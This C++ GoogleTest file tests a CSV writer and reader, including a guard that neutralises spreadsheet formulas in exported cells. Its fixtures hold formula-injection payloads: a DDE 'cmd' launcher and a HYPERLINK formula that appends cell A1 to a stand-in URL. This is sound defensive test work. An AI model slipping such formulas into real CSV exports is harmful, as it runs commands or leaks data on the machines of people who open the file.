#include "files/csvfields.h"

#include "testsupport.h"

#include <gtest/gtest.h>

using namespace norvel;

namespace {

struct CsvCase {
    std::string name;
    QStringList fields;
    QByteArray line; // as written, CR LF included
};

class CsvFieldsTest : public testing::TestWithParam<CsvCase> { };

// What is written reads back as the same fields, and is quoted only where a spreadsheet needs it.
TEST_P(CsvFieldsTest, WritesThenReadsTheSameFields)
{
    const CsvCase& c = GetParam();
    const QByteArray line = csvLine(c.fields);
    EXPECT_EQ(line, c.line);
    EXPECT_EQ(csvFields(QString::fromUtf8(line.chopped(2))), c.fields);
}

INSTANTIATE_TEST_SUITE_P(Lines, CsvFieldsTest,
    testing::Values(CsvCase { "plain", { "7", "0.35", "" }, "7,0.35,\r\n" },
        CsvCase { "comma", { "A,1", "x" }, "\"A,1\",x\r\n" }, CsvCase { "quote_doubled", { "a\"b" }, "\"a\"\"b\"\r\n" },
        CsvCase { "line_breaks", { "1\r\n2", "3\n" }, "\"1\r\n2\",\"3\n\"\r\n" },
        CsvCase { "kana", { "調査柱No", "要注意" }, QStringLiteral("調査柱No,要注意\r\n").toUtf8() }),
    caseName<CsvCase>);

struct CellCase {
    std::string name;
    QString text; // typed, or from another program
    QString cell; // as written
};

class SpreadsheetCellTest : public testing::TestWithParam<CellCase> { };

// A spreadsheet shows a formula's text instead of working it out, and the program reads back what was given.
TEST_P(SpreadsheetCellTest, GuardsFormulasAndReadsBackExactly)
{
    const CellCase& c = GetParam();
    EXPECT_EQ(spreadsheetSafe(c.text), c.cell);
    EXPECT_EQ(fromSpreadsheetSafe(c.cell), c.text);
    EXPECT_EQ(csvFields(QString::fromUtf8(csvLine({ c.cell }).chopped(2))), QStringList { c.cell });
}

INSTANTIATE_TEST_SUITE_P(Cells, SpreadsheetCellTest,
    testing::Values(
        CellCase { "hyperlink", "=HYPERLINK(\"http://x/\"&A1,\"見る\")", "'=HYPERLINK(\"http://x/\"&A1,\"見る\")" },
        CellCase { "dde", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" }, CellCase { "at", "@SUM(1+1)", "'@SUM(1+1)" },
        CellCase { "minus_sum", "-2+3", "'-2+3" }, CellCase { "tab", "\t=1", "'\t=1" },
        CellCase { "cr", "\r=1", "'\r=1" }, CellCase { "lone_minus", "-", "'-" },
        CellCase { "quote_before_formula", "'=1", "''=1" }, CellCase { "negative_number", "-5", "-5" },
        CellCase { "signed_width", "+0.02", "+0.02" }, CellCase { "width", "0.25", "0.25" },
        CellCase { "quote_before_number", "'-5", "'-5" }, CellCase { "quoted_text", "'abc", "'abc" },
        CellCase { "empty", "", "" }),
    caseName<CellCase>);

// Lines end at LF, CR LF or a CR alone; a CR in quotes is the field's, unless the quote is never closed.
TEST(CsvFields, SplitsLinesAtEveryLineEndOutsideQuotes)
{
    const struct {
        const char* name;
        QByteArray content;
        QList<QByteArray> lines;
    } rows[] = { { "cr_only", "a\rb\r", { "a", "b", "" } }, { "crlf_and_lf", "a\r\nb\nc", { "a", "b", "c" } },
        { "cr_in_quotes", "\"x\ry\",z\rw", { "\"x\ry\",z", "w" } },
        { "stray_quote", "a\rb\"c\rd\r", { "a", "b\"c", "d", "" } },
        { "lf_ends_quotes", "\"a\nb\"\rc", { "\"a", "b\"", "c" } } };
    for (const auto& row : rows)
        EXPECT_EQ(csvByteLines(row.content), row.lines) << row.name;
}

// A quote inside an unquoted field starts a quoted part, as spreadsheet programs read it.
TEST(CsvFields, QuoteInsideAFieldQuotesWhatFollows)
{
    EXPECT_EQ(csvFields(u"a\"b,c\"d,e"), QStringList({ "ab,cd", "e" }));
    EXPECT_EQ(csvFields(u""), QStringList({ "" }));
    EXPECT_EQ(quotedCsvField("a\"b"), "\"a\"\"b\"");
    EXPECT_EQ(quotedCsvField(""), "\"\"");
}

} // namespace
